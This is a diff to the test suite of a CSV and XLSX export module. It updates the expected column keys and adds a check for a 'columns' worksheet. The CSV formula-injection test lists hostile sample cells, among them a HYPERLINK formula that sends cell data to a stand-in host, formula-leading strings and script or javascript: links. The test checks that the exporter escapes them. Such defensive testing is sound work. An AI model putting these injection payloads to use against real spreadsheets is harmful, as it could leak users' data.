@@ -37,13 +37,15 @@ const hostile: Table = {
 
 describe('CSV formula injection', () => {
   it('text cells a spreadsheet would run as a formula get a leading apostrophe; numbers and plain text do not', () => {
+    // the CSV header is the column key (name, n), not its label (nominee, value)
     const rows = parseCsv(toCsv(hostile).slice(1), { columns: true, relax_quotes: true }) as Array<Record<string, string>>;
-    expect(rows.map((r) => r['nominee'])).toEqual([
+    expect(Object.keys(rows[0]!)).toEqual(['name', 'n']);
+    expect(rows.map((r) => r['name'])).toEqual([
       '\'=HYPERLINK("http://evil.example/?x="&A1,"点击")', "'+1+1", "'-2+3", "'@SUM(A1:A9)", "'\t=1", "'\r=1", "'＝1＋1",
       '<script>alert(1)</script> 2,410**件 [x](javascript:alert(1)) a|b', '王连成',
     ]);
-    expect(rows.map((r) => r['value'])).toEqual(['1', '-5', '0', '2', '3', '4', '5', '6', '7']);
-    for (const r of rows) expect(r['nominee']).not.toMatch(/^[=+\-@\t\r]/);
+    expect(rows.map((r) => r['n'])).toEqual(['1', '-5', '0', '2', '3', '4', '5', '6', '7']);
+    for (const r of rows) expect(r['name']).not.toMatch(/^[=+\-@\t\r]/);
   });
 
   it('csvSafe leaves every other text alone', () => {
@@ -103,7 +105,7 @@ print(len(rows) - 1, len(widths), bad)`, join(tmp, 'cr.claims.csv')], { encoding
     const t = claimsTable([a.result], new Map([[a.result.sha256, a.text]]));
     for (const [i, c] of a.result.claims.entries()) {
       const row = t.rows[i]!;
-      const from = row['contextStart'] as number; const to = row['contextEnd'] as number;
+      const from = row['context_start'] as number; const to = row['context_end'] as number;
       expect(from).toBeLessThanOrEqual(c.start);
       expect(to).toBeGreaterThanOrEqual(c.end);
       expect(to - from).toBeLessThanOrEqual(2 * CONTEXT_CHARS + (c.end - c.start));
@@ -166,7 +168,7 @@ describe('outputs', () => {
 });
 
 describe('XLSX limits', () => {
-  it('a table longer than a sheet goes on over further sheets, each with the header, and a notes sheet says so', async () => {
+  it('a table longer than a sheet goes on over further sheets, each with the header, a columns sheet and a notes sheet says so', async () => {
     const { writeXlsx } = await import('../src/export/render.js');
     const { PassThrough } = await import('node:stream');
     const ExcelJS = (await import('exceljs')).default;
@@ -179,12 +181,19 @@ describe('XLSX limits', () => {
     await writeXlsx([long, { ...long, name: 'coverage', rows: rows.slice(0, 2) }], sink, 4);
     const wb = new ExcelJS.Workbook();
     await wb.xlsx.load(Buffer.concat(parts) as unknown as ArrayBuffer);
-    expect(wb.worksheets.map((w) => w.name)).toEqual(['claims', 'claims (2)', 'claims (3)', 'coverage', 'notes']);
+    expect(wb.worksheets.map((w) => w.name)).toEqual(['claims', 'claims (2)', 'claims (3)', 'coverage', 'columns', 'notes']);
     const cells = (name: string): unknown[][] => (wb.getWorksheet(name)!.getSheetValues() as unknown[][]).filter(Boolean).map((r) => r.slice(1));
-    expect(cells('claims')).toEqual([['nominee', 'value'], ['row 0', 0], ['row 1', 1], ['row 2', 2]]);
-    expect(cells('claims (2)')).toEqual([['nominee', 'value'], ['row 3', 3], ['row 4', 4], ['row 5', 5]]);
-    expect(cells('claims (3)')).toEqual([['nominee', 'value'], ['row 6', 6]]);
+    // row 1 of every sheet: the column keys
+    expect(cells('claims')).toEqual([['name', 'n'], ['row 0', 0], ['row 1', 1], ['row 2', 2]]);
+    expect(cells('claims (2)')).toEqual([['name', 'n'], ['row 3', 3], ['row 4', 4], ['row 5', 5]]);
+    expect(cells('claims (3)')).toEqual([['name', 'n'], ['row 6', 6]]);
     expect(cells('coverage')).toHaveLength(3);
+    // the columns sheet: each table's column keys with their labels and types
+    expect(cells('columns')).toEqual([
+      ['table', 'column', 'label', 'type'],
+      ['claims', 'name', 'nominee', 'text'], ['claims', 'n', 'value', 'number'],
+      ['coverage', 'name', 'nominee', 'text'], ['coverage', 'n', 'value', 'number'],
+    ]);
     expect(cells('notes')[1]![0]).toBe('The claims table has 7 rows, more than one sheet holds (3): it is on sheets claims, claims (2), claims (3), in order, each with the header.');
   });
 });
